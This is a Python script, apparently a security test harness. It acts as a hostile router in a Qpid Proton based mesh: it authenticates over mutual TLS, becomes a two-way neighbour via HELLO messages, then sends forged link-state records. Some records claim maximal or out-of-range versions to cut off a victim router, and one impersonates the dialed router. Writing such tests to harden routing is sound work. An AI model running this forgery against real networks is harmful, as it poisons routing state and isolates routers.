"""A hostile router, written on Qpid Proton: it joins the mesh as router
ID (over mutual TLS, with a certificate naming ID), becomes a two-way
neighbour of the router it dials (HELLOs), then sends forged link-state
records and leaves:

- about VICTIM, at the largest version a record may claim (instance and
  sequence 2^62 - 1), with no links: VICTIM cut off, if believed;
- about VICTIM, at 2^64 - 1 (beyond any valid version);
- about the router it dialed, with that router's instance and the largest
  sequence number: a record claiming to be the receiving router.

Prints one JSON line: what it sent, and the dialed router's id.

usage: fake_router.py URL CA CERT KEY ID VICTIM
"""
import faulthandler
import json
import sys

from proton import Message, SSLDomain, symbol, uint, ulong
from proton.handlers import MessagingHandler
from proton.reactor import AtMostOnce, Container

faulthandler.dump_traceback_later(50, exit=True)
url, ca, cert, key, me, victim = sys.argv[1:7]
LIMIT = 2 ** 62 - 1  # the largest version a record may claim
BEYOND = 2 ** 64 - 1
CONTROL = "_ferry/control"
result = {"timeout": False, "sent": []}


def control(opcode, ident, **fields):
    body = {"opcode": opcode, "version": uint(1), "id": ident}
    body.update(fields)
    return Message(body=body)


class Fake(MessagingHandler):
    def __init__(self):
        super().__init__(prefetch=100)
        self.sender = None
        self.peer = None
        self.forged = False

    def on_start(self, event):
        domain = SSLDomain(SSLDomain.MODE_CLIENT)
        domain.set_credentials(cert, key, None)
        domain.set_trusted_ca_db(ca)
        domain.set_peer_authentication(SSLDomain.VERIFY_PEER)
        props = {symbol("ferry:router-id"): me, symbol("ferry:instance"): "1"}
        conn = event.container.connect(url, ssl_domain=domain, properties=props)
        # Control messages are sent pre-settled, as routers send them.
        self.sender = event.container.create_sender(conn, CONTROL, options=AtMostOnce())
        self.deadline = event.container.schedule(20, self)

    def on_timer_task(self, event):
        if not self.forged:
            result["timeout"] = True
        # Leave: what was sent has had a second to be read.
        self.sender.connection.close()
        event.container.stop()

    def send(self, opcode, ident, **fields):
        self.sender.send(control(opcode, ident, **fields))
        result["sent"].append([opcode, ident])

    def on_message(self, event):
        body = event.message.body
        if not isinstance(body, dict) or body.get("opcode") != "HELLO":
            return
        self.peer = (body["id"], int(body["instance"]))
        result["peer"] = self.peer[0]
        # Our HELLO lists the peer: two-way once its next HELLO lists us.
        self.sender.send(control("HELLO", me, instance=ulong(1), seen=[self.peer[0]]))
        if me in body.get("seen", []) and not self.forged:
            self.forged = True
            self.send("LSU", victim, instance=ulong(LIMIT), ls_seq=ulong(LIMIT), neighbors={})
            self.send("LSU", victim, instance=ulong(BEYOND), ls_seq=ulong(BEYOND), neighbors={})
            self.send("LSU", self.peer[0], instance=ulong(self.peer[1]),
                      ls_seq=ulong(LIMIT), neighbors={})
            self.deadline.cancel()
            event.container.schedule(1, self)


Container(Fake()).run()
print(json.dumps(result))
